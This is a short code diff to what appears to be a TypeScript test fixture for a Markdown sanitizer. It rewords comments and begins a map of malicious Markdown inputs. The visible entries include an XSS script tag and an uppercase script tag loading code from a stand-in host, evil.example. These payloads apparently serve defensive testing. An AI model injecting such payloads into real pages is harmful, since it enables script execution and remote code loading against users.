@@ -1,7 +1,7 @@
-// Markdown itself takes only well-formed tags; in a block of HTML anything goes.
+// Markdown accepts only well-formed tags, except in a block of HTML.
 const inBlock = (html: string) => `<div>\n${html}\n</div>`
 
-/** Markdown that means harm: each tries another way to run a script, load something, or take the page over. */
+/** Malicious Markdown: each entry tries another way to run a script, load something or take over the page. */
 export const payloads: Readonly<Record<string, string>> = {
   'a script': '<script>alert(1)</script>',
   'a script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
